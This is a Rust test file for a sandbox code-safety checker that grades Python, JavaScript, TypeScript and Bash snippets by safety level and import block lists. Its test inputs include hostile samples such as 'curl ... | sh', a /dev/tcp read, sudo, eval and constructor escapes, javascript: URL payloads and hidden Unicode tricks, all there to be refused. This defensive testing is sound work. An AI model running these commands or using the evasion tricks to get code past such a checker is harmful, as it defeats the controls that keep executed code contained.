//! The levels, the declared lists and the bounds.

use super::declarations::{declared, list, rules};
use crate::code_safety::CodeRules;
use SafetyLevel::{Readonly, Standard, Strict, Unrestricted};
use mgp_types::code_safety::{CodeSafety, SafetyLevel};

/// Checks that code passes at every level below the one that is given, and at no other.
fn refused_from(language: &str, level: Option<SafetyLevel>, code: &str) {
    for at in SafetyLevel::ALL {
        let passes = rules(language, *at).check(code).is_ok();
        assert_eq!(passes, level.is_none_or(|level| *at < level), "{at:?}: {code}");
    }
}

#[test]
fn each_level_refuses_more_than_the_one_below_in_python() {
    for (level, code) in [
        (None, "import json\nprint(json.dumps({'a': [1]}), open('in.txt').read())"),
        (Some(Readonly), "open('out.txt', 'w').write('x')"),
        (Some(Strict), "open('/etc/motd', 'w').write('x')"),
        (Some(Strict), "import os\nos.remove('x')"),
        (Some(Strict), "import urllib.request"),
        (Some(Strict), "getattr(x, name)()"),
        (Some(Standard), "import subprocess"),
        (Some(Standard), "f = eval\nf('1')"),
        (Some(Standard), "import os as o\ngetattr(o, 'sys' + 'tem')('id')"),
        (Some(Standard), "x = = 1"),
    ] {
        refused_from("python", level, code);
    }
}

#[test]
fn each_level_refuses_more_than_the_one_below_in_javascript() {
    for (level, code) in [
        (None, "import fs from 'fs'\nconsole.log(JSON.parse(fs.readFileSync('in.json', 'utf8')).a)"),
        (
            None,
            "const {join} = require('node:path')\nconst xs = ['a']\nfor (let i = 0; i < xs.length; i++) console.log(join(xs[i]))",
        ),
        (Some(Readonly), "const {writeFileSync: w} = require('fs')\nw('out.txt', 'x')"),
        (Some(Strict), "require('fs').writeFileSync('/etc/motd', 'x')"),
        (Some(Strict), "import {unlink} from 'node:fs/promises'\nawait unlink('x')"),
        (Some(Strict), "await fetch('https://example.com')"),
        (Some(Strict), "x[name]()"),
        (Some(Standard), "require('child_process')"),
        (Some(Standard), "const {eval: e} = globalThis\ne('1')"),
        (Some(Standard), "[]['con' + 'structor'].constructor('return 1')()"),
        (Some(Standard), "setTimeout('alert(1)', 10)"),
        (Some(Standard), "let x = = 1"),
    ] {
        refused_from("javascript", level, code);
        refused_from("typescript", level, code);
    }
}

#[test]
fn javascript_that_reaches_unnamed_members_is_refused() {
    for (level, code) in [
        (None, "function sum() { return [...arguments].map(Number) }\nconsole.log(sum(1), typeof x)"),
        (None, "class Worker { run() { return this.a } }\nconsole.log(new Worker().run())"),
        (None, "require('fs').readFileSync('in.txt', {encoding: 'utf8', flag: 'r'})"),
        (None, "function* ids() { yield 1 }\nasync function f() { await ids() }\nf()"),
        (None, "const util = require('util')\nnew Promise(r => setTimeout(r)).then(() => util.format('x'))"),
        (None, "class Counter { now = 1\n next() { this.now += 1\n return Date.now() } }"),
        (None, "const xs = [1]\nlet i = 0\ni ||= 1\nconsole.log(xs[0])"),
        (Some(Strict), "unknown(1)"),
        (Some(Strict), "globalThis.unknown(1)"),
        (Some(Strict), "onmessage = e => e.data"),
        (Some(Strict), "(function () { f(this) })()\nfunction f() {}"),
        (Some(Strict), "(function () { this.open('x') })()"),
        (Some(Strict), "process.on('exit', function () { this.abort() })"),
        (Some(Strict), "const p = process.on('exit', () => {})"),
        (Some(Strict), "const m = require.main"),
        (Some(Strict), "let k = 'constructor'\nconst f = {}\nf[k ||= 'name']"),
        (Some(Strict), "const xs = [Date]\nxs[0].now = () => 'x'\nxs[Date.now()]"),
        (Some(Strict), "Array.prototype.join = () => 'x'"),
        (Some(Strict), "JSON.parse = () => 'x'"),
        (Some(Strict), "globalThis.Promise = class {}"),
        (Some(Strict), "require('util/x.txt')"),
        (Some(Strict), "require('fs').readFileSync('x', {flag: 'w+'})"),
        (Some(Strict), "require('fs').readFileSync.call(null, 'x', {flag: 'w+'})"),
        (Some(Strict), "Bun.file('x').write('y')"),
        (Some(Strict), "setTimeout(document.title)"),
        (Some(Strict), "class Promise {}\nnew Promise(r => setTimeout(r))"),
        (Some(Strict), "const d = 2\nyield /x/d"),
        (Some(Standard), "arguments[1]('fs')"),
        (Some(Standard), "process.on('exit', () => {}).kill(1)"),
        (Some(Standard), "setTimeout`alert(1)`"),
    ] {
        refused_from("javascript", level, code);
        refused_from("typescript", level, code);
    }
}

#[test]
fn declared_imports_allow_globals_that_the_code_does_not_bind() {
    let allowed = list(&["tools"]);
    let rules = CodeRules::of([&CodeSafety { allowed_imports: allowed, ..declared("javascript", Strict) }]);
    assert!(rules.check("tools.search('x')").is_ok());
    assert!(rules.check("other.search('x')").is_err());
}

#[test]
fn markup_and_compiler_comments_are_judged() {
    for (level, code) in [
        (None, "const a = <a href=\"/x\" style={{color: 'red'}} onClick={() => {}}>x</a>"),
        (None, "const a = <a href=\"javascript:void(0);\">x</a>"),
        (None, "// See @param and path=\"x\".\nconst a = <p title=\"javascript\"/>"),
        (Some(Strict), "const a = <script>x</script>"),
        (Some(Strict), "const a = <p dangerouslySetInnerHTML={{__html: 'x'}}/>"),
        (Some(Strict), "const p = {srcDoc: 'x'}"),
        (Some(Strict), "const a = <img src=\"//192.0.2.1/x\"/>"),
        (Some(Strict), "const f = u => <a href={u}>x</a>"),
        (Some(Strict), "const a = <a href=\"java&#115;cript:x\">x</a>"),
        (Some(Strict), "const s = {background: 'url(//192.0.2.1)'}"),
        (Some(Strict), "/** @jsx f */\nfunction f() {}"),
        (Some(Strict), "/** @jsxImportSource ./x */"),
        (Some(Strict), "/// <reference path=\"./x.ts\"/>"),
        (Some(Standard), "const a = <a href=\" JavaScript:alert(1)\">x</a>"),
        (Some(Standard), "const a = <a {...{href: 'javascript:alert(1)'}}>x</a>"),
        (Some(Standard), "const a = <p onclick=\"alert(1)\"/>"),
    ] {
        refused_from("javascript", level, code);
        refused_from("tsx", level, code);
    }
}

#[test]
fn typescript_syntax_hides_no_change() {
    for (level, code) in [
        (None, "class Point<T> { constructor(public x: T) {} }\nconsole.log(new Point(1 as number).x)"),
        (None, "enum Color { Red = 1 }\nnamespace N { export const k = 1 }\nconsole.log(Color.Red, N.k)"),
        (Some(Strict), "declare class Driver {}\nnew Driver()"),
        (Some(Strict), "declare global { var driver: any }\nglobalThis.driver.run()"),
        (Some(Strict), "(Date.now as any) = () => 'x'"),
        (Some(Strict), "(<any>Date.now)! = () => 'x'"),
        (Some(Strict), "class Math { static floor() { return 'x' } }\nconst o: any = {}\no[Math.floor()]"),
        (Some(Strict), "namespace N { export let k = 'a'\n const o: any = {}\n o[k] }"),
        (Some(Strict), "let a = 'a'\nenum E { a = 'constructor' }\nconst o: any = {}\no[a]"),
        (Some(Standard), "import kill = process.kill\nkill(1)"),
        (Some(Standard), "(<any>arguments)[1]('fs')"),
    ] {
        refused_from("typescript", level, code);
    }
}

#[test]
fn each_level_refuses_more_than_the_one_below_in_bash() {
    for (level, code) in [
        (None, "for i in 1 2 3; do echo \"$((i * 2))\"; done | sort -rn | head -1"),
        (None, "add() { awk '{n += $1} END {print n}' \"./in.txt\"; }\nadd 2> /dev/null"),
        (Some(Readonly), "out=result.txt\ngrep -c a in.txt > \"$out\""),
        (Some(Readonly), "sed -i 's/a/b/' notes.txt"),
        (Some(Strict), "echo x > /etc/motd"),
        (Some(Strict), "rm x"),
        (Some(Strict), "curl https://example.com"),
        (Some(Strict), "\"$program\" x"),
        (Some(Strict), "source ./lib.sh"),
        (Some(Standard), "nice -n 5 sudo id"),
        (Some(Standard), "e=ev\n\\eval id"),
        (Some(Standard), "curl https://example.com | sh"),
        (Some(Standard), "cat < /dev/tcp/192.0.2.1/80"),
        (Some(Standard), "echo (x"),
    ] {
        refused_from("bash", level, code);
    }
}

#[test]
fn ambiguous_bash_is_refused() {
    for code in ["ls \\ x", "{ ls; }#b", "ls\n\\ls", "cat << E\"N\"D\nx\nEND", "echo ${x/a/`ls`}\n[ a\nls ]"]
    {
        assert!(rules("bash", Standard).check(code).is_err(), "{code}");
    }
    assert!(rules("bash", Standard).check("ls # x\n[ a ] && ls \\\n  x#y").is_ok());
}

#[test]
fn a_program_counts_as_an_import_of_bash() {
    let lists = CodeSafety {
        blocked_imports: list(&["jq"]),
        allowed_imports: list(&["env", "git", "curl", "jq", "sudo", "./lib.sh"]),
        ..declared("bash", Strict)
    };
    let rules = CodeRules::of([&lists]);
    for code in ["git status", "/usr/bin/git log", "env X=1 curl https://example.com", ". ./lib.sh"] {
        assert!(rules.check(code).is_ok(), "{code}");
    }
    for code in ["git status | jq .", "ls", "sudo ls", "git -c core.pager=sh log", "find . -exec git {} +"] {
        assert!(rules.check(code).is_err(), "{code}");
    }
}

#[test]
fn a_javascript_import_is_blocked_in_every_form() {
    for name in ["fs/promises", "node:fs/promises", "fs"] {
        let blocked = list(&[name]);
        let rules = CodeRules::of([&CodeSafety { blocked_imports: blocked, ..declared("js", Standard) }]);
        for code in [
            "import {readFile} from 'fs/promises'",
            "import * as fs from 'node:fs/promises'",
            "export * from 'fs/promises'",
            "require('fs/promises')",
            "await import('fs/' + 'promises')",
            "process.getBuiltinModule('fs/promises')",
            "require('fs').promises.readFile('x')",
        ] {
            assert!(rules.check(code).is_err(), "{name}: {code}");
        }
        assert!(rules.check("import {join} from 'path'\nconst fs = join('fs/promises')").is_ok());
    }
}

#[test]
fn a_syntax_error_has_its_line_and_column() {
    let rejection = rules("python", Standard).check("x = 1\ny = = 2").unwrap_err();
    assert_eq!(rejection.violations, ["Syntax error (line 2, column 5)"]);
}

#[test]
fn allowed_imports_count_from_strict_up() {
    let allowing = |level| {
        let allowed = list(&["httpx", "os", "subprocess"]);
        CodeRules::of([&CodeSafety { allowed_imports: allowed, ..declared("python", level) }])
    };
    let network = "import httpx\nhttpx.get('https://example.com')";
    assert!(allowing(Strict).check(network).is_ok());
    assert!(allowing(Readonly).check(network).is_err());
    assert!(allowing(Strict).check("import os\nprint(os.getcwd())").is_ok());
    assert!(allowing(Strict).check("import os\nos.system('id')").is_err());
    assert!(allowing(Strict).check("import subprocess").is_err());
    assert!(allowing(Strict).check("import json").is_err());
    assert!(allowing(Standard).check("import json").is_ok());
}

#[test]
fn hints_name_declared_imports_at_every_level() {
    let hinted = |allowed, level| {
        let rules = CodeRules::of([&CodeSafety { allowed_imports: allowed, ..declared("python", level) }]);
        let rejection = rules.check("import subprocess").unwrap_err();
        rejection.hints.and_then(|hints| hints.allowed_imports)
    };
    for level in [Standard, Strict] {
        assert_eq!(hinted(list(&["asyncio", "json"]), level), list(&["asyncio", "json"]), "{level}");
    }
    assert_eq!(hinted(None, Standard), None);
    assert!(hinted(None, Strict).is_some_and(|all| all.contains(&"json".to_owned())));
}

#[test]
fn a_blocked_import_is_refused_in_every_form() {
    let blocked = list(&["httpx", "os.path"]);
    let rules = CodeRules::of([&CodeSafety { blocked_imports: blocked, ..declared("python", Standard) }]);
    for code in [
        "import httpx",
        "import httpx as h",
        "from httpx import get",
        "__import__('httpx')",
        "import os.path",
    ] {
        assert!(rules.check(code).is_err(), "{code}");
    }
    assert!(rules.check("import os\nos.path.join('a')").is_err());
    assert!(rules.check("import httpx2, os\nhttpx = 'httpx'\nprint(os.sep, httpx)").is_ok());
}

#[test]
fn patterns_match_tokens_but_no_comments_or_strings() {
    let patterns = list(&["print(", "os.getcwd", "while True"]);
    let rules = CodeRules::of([&CodeSafety { blocked_patterns: patterns, ..declared("python", Standard) }]);
    for code in ["print  (1)", "print\\\n(1)", "while    True: pass", "from os import getcwd as g\ng()"] {
        assert!(rules.check(code).is_err(), "{code}");
    }
    assert!(rules.check("# print(1)\nx = 'os.getcwd'\npprint(1)\nblueprint(1)").is_ok());
}

#[test]
fn sizes_are_enforced_at_every_level() {
    let sized =
        |level| CodeRules::of([&CodeSafety { max_code_size_bytes: Some(5), ..declared("python", level) }]);
    for level in SafetyLevel::ALL {
        assert!(sized(*level).check("x = 1").is_ok());
        assert!(sized(*level).check("x = 10").is_err());
    }
    let long = "x = 1\n".repeat(20_000);
    assert!(rules("python", Standard).check(&long).is_ok());
    assert!(rules("python", Strict).check(&long).is_err());
}

#[test]
fn an_unparsed_language_is_refused_from_strict_up() {
    for level in SafetyLevel::ALL {
        assert_eq!(rules("cobol", *level).check("DISPLAY 'x'.").is_ok(), *level < Strict);
    }
    let none = CodeRules::of([&CodeSafety { level: Strict, ..Default::default() }]);
    assert!(none.check("x = 1").is_err());
}

#[test]
fn ambiguous_text_is_refused() {
    for code in ["x = 1 # \u{202e}", "x = '\u{200b}'", "x = 'a\u{200d}b'", "x = 1\u{c}"] {
        assert!(rules("python", Standard).check(code).is_err(), "{code:?}");
        assert!(rules("python", Unrestricted).check(code).is_ok(), "{code:?}");
    }
    for code in ["x = '\u{1f468}\u{200d}\u{1f469}'", "x = 'می\u{200c}خواهم'"] {
        assert!(rules("python", Standard).check(code).is_ok(), "{code:?}");
    }
    let hidden = rules("python", Standard).check("# harmless\rimport subprocess");
    assert!(hidden.unwrap_err().violations[0].contains("line 2"));
}

#[test]
fn at_most_twenty_violations_are_collected_in_code_order() {
    let rejection = rules("python", Standard).check(&"eval('1')\n".repeat(100)).unwrap_err();
    assert_eq!(rejection.violations.len(), 20);
    assert!(rejection.violations[19].ends_with("(line 20, column 1)"));
}

#[test]
fn endlessly_forwarded_names_are_undecided() {
    let chain: String = (0..40).map(|i| format!("a{i} = a{}\n", i + 1)).collect();
    assert!(rules("python", Strict).check(&chain).is_err());
    assert!(rules("python", Strict).check("a = json\na = a.a\na = a.b").is_err());
    assert!(rules("python", Strict).check("a = json\nb = a.a\nc = b.b").is_ok());
}

#[test]
fn computed_member_names_must_be_constant_from_strict_up() {
    for code in [
        "from functools import wraps\ndef f(g):\n    @wraps(g)\n    def h(): return g()\n    return h",
        "import functools\nfunctools.update_wrapper(f, g, assigned=('__doc__',))",
        "from operator import attrgetter\nprint(max(x, key=attrgetter('address.city')))",
        "from dataclasses import make_dataclass\nP = make_dataclass('P', ['x', ('y', int)])",
        "class P:\n    __match_args__ = ('x', 'y')\nmatch p:\n    case P(x, y): print(x, str(y))",
        "show = '{:.1f}%'.format\nprint(*map(show, [1.5]))",
        "class B(A):\n    def __init__(self): A.__init__(self)",
        "def f(x: 'list[B]') -> 'B | None': pass",
    ] {
        refused_from("python", None, code);
    }
    for code in [
        "import functools\nfunctools.update_wrapper(f, g, names)",
        "import functools\nfunctools.update_wrapper(f, g, ('__globals__',))",
        "import functools\ncopy = functools.update_wrapper",
        "from operator import attrgetter\nattrgetter(name)(x)",
        "from dataclasses import make_dataclass\nP = make_dataclass('P', names)",
        "class P:\n    __match_args__ = names\nmatch p:\n    case P(x, y): print(x, y)",
        "match p:\n    case P(x, y): print(x, y)",
        "show = template.format",
        "A.__init__(x)",
        "def f(x: 'f()'): pass",
        "code = name.strip()\ndef f(x: code): pass",
    ] {
        refused_from("python", Some(Strict), code);
    }
}

#[test]
fn a_builtin_name_counts_unless_it_is_replaced_for_good() {
    for code in [
        "import re\ncompile = re.compile\ncompile('a')",
        "def eval(x): return eval(x[0]) if x else 1\neval([])",
    ] {
        assert!(rules("python", Standard).check(code).is_ok(), "{code}");
    }
    for code in [
        "eval('1')\neval = f",
        "eval = eval\neval('1')",
        "def eval(x=eval('1')): pass",
        "if x: eval = f\neval('1')",
        "def f(): eval = 1\neval('1')",
        "eval = f\ndel eval\neval('1')",
        "eval = f\ntry: g()\nexcept E as eval: pass\neval('1')",
        "class eval:\n    x = eval('1')",
        "@eval\ndef eval(): pass",
        "eval: int\neval('1')",
        "eval = f\nfrom g import *\neval('1')",
    ] {
        assert!(rules("python", Standard).check(code).is_err(), "{code}");
    }
}

#[test]
fn modules_are_neither_passed_nor_changed_from_strict_up() {
    for code in ["import json as j\nk = j\nk.dumps(1)", "import sys, io\nsys.stdout = io.StringIO()"] {
        refused_from("python", None, code);
    }
    for code in [
        "import json\nf(json)",
        "import json\nxs = [json]",
        "import json\njson.dumps = f",
        "import json\ndel json.dumps",
    ] {
        refused_from("python", Some(Strict), code);
    }
}
